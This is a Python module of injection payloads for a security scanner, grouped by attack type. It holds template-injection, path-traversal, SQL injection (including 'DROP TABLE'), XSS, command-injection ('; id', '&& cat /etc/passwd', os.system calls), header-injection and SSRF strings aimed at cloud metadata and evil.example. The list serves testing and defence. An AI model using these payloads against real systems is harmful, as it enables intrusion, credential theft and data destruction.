"""The usual attacks of a scanner, by kind: texts that some program somewhere takes for something else.

From the lists that every tester uses (OWASP Testing Guide, PayloadsAllTheThings, SecLists), chosen and shortened.
"""

from typing import Final

PRODUCT: Final = "62615533"  # 7919 × 7907: seen in an answer, a template was worked out
TEMPLATES: Final = ("{{7919*7907}}", "${7919*7907}", "#{7919*7907}", "<%= 7919*7907 %>", "{{config}}", "{{''.__class__.__mro__}}", "{% debug %}", "${jndi:ldap://127.0.0.1/a}", "%{7919*7907}", "[[${7919*7907}]]")  # fmt: skip
PATHS: Final = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc/passwd", "%252e%252e%252fetc%252fpasswd",
    "....//....//etc/passwd", "/etc/passwd", "file:///etc/passwd", "..%c0%af..%c0%afetc/passwd", "..;/..;/app.py", "~root",
    "C:\\boot.ini", "\\\\127.0.0.1\\share", "/proc/self/environ", "../settings.py", "../../sharing.sqlite", ".git/config", ".env",
    "crm.toml", "store/CURRENT", "..%00.csv", "php://filter/convert.base64-encode/resource=app.py",
)  # fmt: skip
QUERIES: Final = (
    "'", "\"", "' OR '1'='1", "1 OR 1=1", "'; DROP TABLE links;--", "' UNION SELECT name FROM sqlite_master--", "1; SELECT pg_sleep(5)",
    "') OR ('a'='a", "admin'--", "1/**/OR/**/1=1", "\\'; --", "%27%20OR%201=1", "0x27", "' AND randomblob(1000000000)--",
    "*)(uid=*))(|(uid=*", "{\"$ne\": null}", "{'$gt': ''}", "' or count(/*)=1 or 'a'='b",
)  # fmt: skip
SCRIPTS: Final = (
    "<script>alert(1)</script>", "\"><svg onload=alert(1)>", "'-alert(1)-'", "javascript:alert(1)", "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>", "<iframe srcdoc='<script>alert(1)</script>'>", "&lt;script&gt;", "\u2028alert(1)", "<a href=data:text/html,x>",
    "{\"__proto__\": {\"polluted\": 1}}", "constructor.prototype", "]]><!--", "<math><mtext></form><form><mglyph>",
)  # fmt: skip
COMMANDS: Final = ("; id", "| id", "`id`", "$(id)", "&& cat /etc/passwd", "\nid\n", "%0Aid", "() { :;}; echo x", "__import__('os').system('id')", "!!python/object/apply:os.system ['id']", "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd")  # fmt: skip
LINES: Final = ("a\r\nX-Injected: 1", "a%0d%0aX-Injected:%201", "a\r\n\r\n<html>", "a\nSet-Cookie: crm_session=x", "%E5%98%8A%E5%98%8DX-Injected:1", "a\x0bb", "a\u0085b")  # fmt: skip
ODD: Final = (
    "\x00", "a\x00b", "%00", "\ufeff", "\u202etxt.exe", "\ud7ff", "🙂" * 200, "ක්‍ෂ", "NaN", "Infinity", "-1", "1e309", "99999999999999999999",
    "0x7fffffff", "null", "undefined", "true", "[]", "{}", "a" * 5000, "," * 2000, "%" * 500, "%zz", "%u0041", "\\u0000", "٣", "½",
    "9999-12-31", "0000-00-00", "2025-02-30", "-0001-01-01", "10000-01-01", "2025-01-01T00:00:00Z",
)  # fmt: skip
PLACES: Final = ("http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "//evil.example", "https://evil.example/", "\\\\evil.example", "/\\evil.example", "http:evil.example", "gopher://127.0.0.1:6379/_")  # fmt: skip
TEXTS: Final = (*TEMPLATES, *PATHS, *QUERIES, *SCRIPTS, *COMMANDS, *LINES, *ODD, *PLACES)
